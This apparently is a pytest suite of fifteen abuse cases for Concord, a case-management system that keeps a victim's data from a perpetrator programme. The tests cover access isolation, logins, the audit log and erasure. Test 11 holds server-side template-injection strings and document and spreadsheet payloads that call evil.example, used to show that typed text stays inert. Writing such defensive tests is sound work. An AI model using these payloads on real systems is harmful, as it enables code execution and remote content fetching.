"""The fifteen abuse cases that Concord is built against, each by its number; 8, 9 and 10 need a running server.

What a case asks for and Concord does not have yet says so in the name of its test, which shows what holds instead.
"""

import ast
import io
import json
import zipfile
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import timedelta
from itertools import count
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from uuid import uuid4

import pyotp
import pytest
import time_machine
from sqlalchemy import Engine, func, select
from sqlalchemy.orm import Session
from sqlalchemy.orm.exc import StaleDataError

from core import access, clock, keys
from core.content import access_rules, recipients
from core.content.access_rules import HeldBy, Relation, Space
from core.documents import minutes
from core.documents.kinds import DocumentKind, Recipient
from core.documents.read import paragraphs
from core.errors import Conflict, CoreError, Invalid, NotAllowed, NotFound
from core.locale import Words
from core.models import (
    ErasureGround,
    Event,
    EventKind,
    FileNote,
    HoldGround,
    Person,
    PersonRequest,
    RequestKind,
    Role,
    ServiceKind,
    Subject,
    SubjectKind,
)
from core.operations import (
    agreement_drafts,
    copies,
    copy_choices,
    erasures,
    files,
    holds,
    joint_items,
    path_entries,
    person_requests,
)
from core.operations.files import Contacts
from core.operations.releases import Terms
from core.sign_in import arrivals, factors, limits, passwords
from core.store import Store
from pages.ui import uploads
from tests.campaign import log
from tests.canary import finding
from tests.canary.conftest import Ground
from tests.canary.planting import plant
from tests.canary.sweep import OPENINGS, Sweep
from tests.copies import choose_all
from tests.core import access_world
from tests.core.access_world import World
from tests.core.documents import samples
from tests.make import Make, share
from tests.pages.conftest import said

ROOT = Path(__file__).resolve().parent.parent.parent
HERE = limits.Visitor("10.0.0.1")
_thousands = (count(start) for start in count(50_000, 1000))


def programme(ground: Ground, role: Role = Role.CASE_MANAGER) -> Sweep:
    actor = ground.planted.person(role)
    return Sweep(ground.desk, ground.planted, actor, str(role), ground.planted.forbidden_to(actor.roles))


def test_abuse_01_the_programme_gets_her_address_by_no_page_file_search_or_count(ground: Ground) -> None:
    worker = programme(ground)

    worker.see_all()

    assert worker.hits == []
    assert len(worker.downloads) >= 20


def test_abuse_02_his_request_brings_him_his_own_data_and_nothing_that_came_from_her(
    db: Session, make: Make
) -> None:
    planted = plant(db, make)
    pair = planted.world.pair
    hers = make.note(pair.vss_file, pair.vss, "her_account", "She sleeps at her aunt's behind the mill.")
    share(db, pair.vss, hers.id, hers.text)
    make.note(pair.pp_file, pair.pp, "his_statements", "Told me: she sleeps at her aunt's behind the mill.")
    make.note(pair.pp_file, pair.pp, "attendance", "He came on time.")
    request = db.get_one(PersonRequest, planted.ids["his_asked"])
    choose_all(db, pair.pp, request)
    second = make.actor(pair.pp.service_id)
    make.assign(planted.world.pair.case, second)
    copy_choices.check(db, second, request.id, version=request.version)

    taken = copies.document(db, pair.pp, request.id, words=Words("en", "UTC"))

    with zipfile.ZipFile(io.BytesIO(taken)) as packed:
        said = json.loads(packed.read("copy.json"))
        assert packed.namelist() == ["copy.docx", "copy.json"]
    assert finding.hits(taken) == set()
    assert "He came on time." in str(said)
    assert "aunt" not in str(said)
    with pytest.raises(NotFound):
        copies.document(db, pair.pp, planted.ids["her_asked"], words=Words("en", "UTC"))
    table = recipients.load()
    assert [kind.id for kind in table.kinds if Recipient.PERSON in kind.recipients] == ["person_copy"]


def test_abuse_02_what_he_gets_is_of_the_programmes_own_file() -> None:
    table = recipients.load()
    his = [kind for kind in table.kinds if Recipient.HIM in kind.recipients]

    assert {kind.id for kind in table.kinds} == set(DocumentKind)
    assert [kind.id for kind in his] == ["attendance_confirmation", "participation_agreement", "his_consent"]
    assert {(kind.made_by, str(kind.holds_her)) for kind in his} == {("pp", "no")}


def _outcome(world: World, kind: str, act: Any, actor: Any, side: ServiceKind) -> str:
    point = world.db.begin_nested()
    try:
        access_world.TRIES[kind, act](world, actor, side)
        world.db.flush()
    except CoreError as error:
        return f"{type(error).__name__} {error.key} {sorted(error.values)}"
    finally:
        point.rollback()
        world.db.expire_all()
    return "done"


#: Their tries load the record themselves; they are asked by id below.
BY_ID = {
    ("path_entry", "share"),
    ("his_note", "share"),
    ("her_note", "share"),
    ("case_agreement", "write"),
    ("organisation_agreement", "write"),
}


#: No record of a case: the questions of the services' own list are every worker's to read, and to take all of the own
#: service along is asked for of no record.
NO_RECORDS = {("risk_list", "read"), ("service_export", "write")}


def test_abuse_03_a_record_of_others_is_answered_as_one_that_does_not_exist(db: Session, make: Make) -> None:
    world = access_world.build(db, make, Space.RELEASED)
    ghost_case: Any = SimpleNamespace(id=uuid4(), cooperation_id=uuid4(), version=1)
    ghosts = replace(
        world,
        pair=replace(world.pair, case=ghost_case),
        ids={name: uuid4() for name in world.ids},
        sides={
            side: replace(held, ids={name: uuid4() for name in held.ids})
            for side, held in world.sides.items()
        },
    )
    differ = []
    for (kind, act), role in (
        (tried, role)
        for tried in access_world.TRIES
        for role in (Role.CASE_MANAGER, Role.MANAGER, Role.ADMINISTRATOR, Role.DATA_PROTECTION, Role.GUEST)
    ):
        stranger = world.actor(role, Relation.STRANGER, ServiceKind.PP, HeldBy.EACH)
        if (kind, str(act)) in BY_ID | NO_RECORDS:
            continue
        is_his = access_rules.load().kind(kind).held_by is HeldBy.PP
        side = ServiceKind.PP if is_his else ServiceKind.VSS
        theirs, none = (_outcome(one, kind, act, stranger, side) for one in (world, ghosts))
        if theirs != none:
            differ.append(f"{kind} {act} {role}: {theirs}, where there is none {none}")
    assert differ == []

    stranger = world.actor(Role.CASE_MANAGER, Relation.STRANGER, ServiceKind.PP, HeldBy.EACH)
    for record_id in (world.ids["draft"], world.ids["of_managements"], uuid4()):
        with pytest.raises(NotFound, match=r"error\.not_found"):
            agreement_drafts.answer(db, stranger, record_id, answers={}, was={})
    for record_id in (world.sides[ServiceKind.VSS].ids["note"], uuid4()):
        with pytest.raises(NotFound, match=r"error\.not_found"):
            joint_items.preview(db, stranger, record_id, text_="X", terms=Terms(uuid4(), "risk_assessment"))
    for record_id in (world.sides[ServiceKind.VSS].ids["entry"], uuid4()):
        with pytest.raises(NotFound, match=r"error\.not_found"):
            path_entries.share(db, stranger, record_id, version=1)


def test_abuse_04_a_colleague_who_is_not_on_the_case_sees_nothing_and_each_look_leaves_one_row(
    own_store: Store,
) -> None:
    with own_store.writing.begin() as db:
        make = Make(db)
        pair = make.pair()
        make.subject(pair.vss_file)
        make.note(pair.vss_file, pair.vss)
        colleague = make.actor(pair.vss.service_id)

    with own_store.reading.begin() as db:
        for see in (
            access.visible_cases,
            access.visible_files,
            access.visible_subjects,
            access.visible_notes,
        ):
            assert db.scalars(see(colleague)).all() == []
    with pytest.raises(NotFound):
        own_store.read(files.mine, colleague, pair.case.id)
    own_store.read(files.mine, pair.vss, pair.case.id)

    with own_store.reading.begin() as db:
        rows = select(func.count()).where(Event.subject == "case_file", Event.kind == EventKind.READ)
        assert db.scalar(rows.where(Event.person_id == pair.vss.person_id)) == 1
        assert db.scalar(select(func.count()).where(Event.person_id == colleague.person_id)) == 1


def test_abuse_05_what_is_taken_back_is_gone_from_the_open_page_of_the_other_at_its_next_run(
    ground: Ground,
) -> None:
    with ground.store.writing() as db:
        make = Make(db, next(_thousands))
        pair = make.pair()
        item = share(db, pair.vss, make.note(pair.vss_file, pair.vss, "her_account").id, "He waited outside")
        db.commit()
    at = ground.desk.open(pair.pp, "case", case=pair.case.id)
    assert "He waited outside" in said(at)

    ground.store.change(joint_items.withdraw, pair.vss, item.id)
    at.run()

    assert "He waited outside" not in said(at)


def test_abuse_06_the_shared_screen_shows_nothing_of_hers_whoever_of_her_service_sits_at_it(
    ground: Ground,
) -> None:
    chair = ground.planted.person(Role.CHAIR, ServiceKind.VSS)
    everything = set(ground.planted.canaries)
    screen = Sweep(ground.desk, ground.planted, chair, "chair of her service", everything)

    for names in OPENINGS["table"]:
        screen.open("table", names)

    assert screen.hits == []
    assert screen.sent > 1000


def test_abuse_07_who_steals_the_files_reads_no_word_of_hers_and_no_name(ground: Ground) -> None:
    worker = programme(ground)
    for page in ("case", "plan", "table", "minutes", "log"):
        if page in worker.pages():
            worker.open(page, OPENINGS[page][0])
            worker.take_files(page)
    with ground.store.reading() as db:
        names = [name.encode() for name in db.scalars(select(Person.name))]
        codes = [code.encode() for code in db.scalars(select(Subject.code))]
    stolen = {path: path.read_bytes() for path in ground.home.rglob("*") if path.is_file()}

    assert {path.name for path in stolen} >= {"concord.db", "concord.db-wal"}
    for path, raw in stolen.items():
        assert finding.hits(raw) == set(), path
        assert [name for name in names + codes if len(name) > 5 and name in raw] == [], path


def test_abuse_11_templates_cannot_be_uploaded_and_nothing_typed_runs_or_links_in_a_document() -> None:
    attacks = (
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        '</w:t></w:r><w:fldSimple w:instr="INCLUDETEXT http://evil.example/x"/>',
        '=HYPERLINK("http://evil.example")',
    )
    plain = _parts(minutes.make(samples.MINUTES, Recipient.JOINT, samples.words))

    for attack in attacks:
        item = minutes.MinutesItem(title=attack, facts=attack, decisions=attack)
        document = replace(samples.MINUTES, items=(item,), place=attack, chair=attack)
        content = minutes.make(document, Recipient.JOINT, samples.words)
        assert ("Item Text", attack) in paragraphs(content), "typed, and nothing more than typed"
        parts = _parts(content)
        assert set(parts) == set(plain)
        for name, raw in parts.items():
            for sign in (b"<w:fldSimple", b"<w:instrText", b"<w:hyperlink", b'TargetMode="External"'):
                assert raw.count(sign) == plain[name].count(sign), (name, sign, attack)
    # One place takes a file, and the door lets nothing through to it but a PDF.
    places = [
        node
        for path in (ROOT / "pages").rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "file_uploader"
    ]
    assert len(places) == 1
    assert uploads.KINDS == (b"%PDF-",)


def _parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def test_abuse_12_whoever_changes_or_cuts_the_log_is_found_with_the_first_bad_row(engine: Engine) -> None:
    result = log.attack(engine, times=2 * len(log.ATTACKS), seed=15)

    assert result.made == 2 * len(log.ATTACKS)
    assert result.missed == []


def test_abuse_13_guesses_run_dry_a_code_counts_once_and_nobody_learns_which_names_exist(
    db: Session, make: Make
) -> None:
    seed = pyotp.random_base32()
    account = make.account(make.pair().pp, seed=seed)
    account.password_hash = passwords.hash_password("seven herons over the mill")
    now = clock.now()
    looked_at: list[Any] = []
    for _guess in range(10_000):
        if limits.standing(looked_at, now) is None:
            looked_at.append(now)
    assert len(looked_at) == limits.FREE

    answers = []
    with time_machine.travel(now, tick=False):
        for name in (account.username, "nobody-has-this-name"):
            tries = []
            for _ in range(limits.FREE + 1):
                try:
                    limits.knock(db, name, HERE)
                except NotAllowed as error:
                    tries.append(error.key)
            answers.append(tries)
        code = pyotp.TOTP(seed).at(now)
        factors.check(db, account, code)
        with pytest.raises(Invalid, match=r"error\.code_refused"):
            factors.check(db, account, code)
    assert answers[0] == answers[1] == ["error.sign_in_wait"]
    known, unknown = (passwords.hash_of(db, name) for name in (account.username, "nobody-has-this-name"))
    assert known[:7] == unknown[:7], "the same work for a name that nobody has"
    with pytest.raises(NotAllowed, match=r"error\.sign_in_refused"):
        arrivals.by_password(db, "nobody-has-this-name", attempt_id=uuid4())


def test_abuse_14_of_many_who_save_one_version_one_wins_and_the_others_are_told(own_store: Store) -> None:
    with own_store.writing.begin() as db:
        make = Make(db)
        pair = make.pair()
        her = make.subject(pair.vss_file)

    def save(number: int) -> str:
        try:
            own_store.change(
                files.revise_subject,
                pair.vss,
                her.id,
                contacts=Contacts(name=f"Name {number}", address=f"Street {number}"),
                version=1,
            )
        except (Conflict, StaleDataError):
            return "told"
        return f"Name {number}"

    with ThreadPoolExecutor(4) as pool:
        outcomes = list(pool.map(save, range(20)))

    (winner,) = [outcome for outcome in outcomes if outcome != "told"]
    with own_store.reading.begin() as db:
        kept = db.get_one(Subject, her.id)
        assert (kept.name, kept.version) == (winner, 2)
        assert kept.address == winner.replace("Name", "Street"), "nothing is half written"


def test_abuse_15_nobody_erases_evidence_alone_and_nothing_on_hold_and_his_request_never_hers(
    own_store: Store,
) -> None:
    with own_store.writing.begin() as db:
        make = Make(db)
        pair = make.pair(is_agreed=False)
        him = make.subject(pair.pp_file, SubjectKind.HIM)
        make.note(pair.vss_file, pair.vss, "her_account", "What she said")
        pair.case.closed_on = clock.today() - timedelta(days=4000)
        lead = make.actor(pair.vss.service_id, Role.MANAGER)
        person_requests.record(db, pair.pp, him.id, kind=RequestKind.ERASURE, asked_on=clock.today())
        asked = {"ground": ErasureGround.TIME_IS_OVER, "reason": "Its time is over"}
        own = erasures.ask(db, pair.vss, pair.case.id, parts=["own_file"], **asked)  # type: ignore[arg-type]
        holds.keep(
            db, lead, pair.case.id, part="", ground=HoldGround.COURT, reason="A trial in May", until=None
        )

    with pytest.raises(NotAllowed, match=r"error\.erasure\.own"):
        own_store.change(erasures.confirm, pair.vss, own.id, version=1)
    with pytest.raises(NotAllowed, match=r"error\.erasure\.held"):
        own_store.change(erasures.confirm, lead, own.id, version=1)
    for part in ("shared", "meetings", "frame"):
        with pytest.raises(NotAllowed, match=r"error\.erasure\.not_by_request"):
            own_store.change(
                erasures.ask,
                pair.pp,
                pair.case.id,
                parts=[part],
                ground=ErasureGround.REQUEST,
                reason="He asks for it",
            )

    with own_store.reading.begin() as db:
        keys.of(db, pair.vss)
        assert [note.text for note in db.scalars(select(FileNote))] == ["What she said"]
        acts = db.scalars(select(Event.act).where(Event.subject == "erasures")).all()
        assert set(acts) == {"not_allowed"}
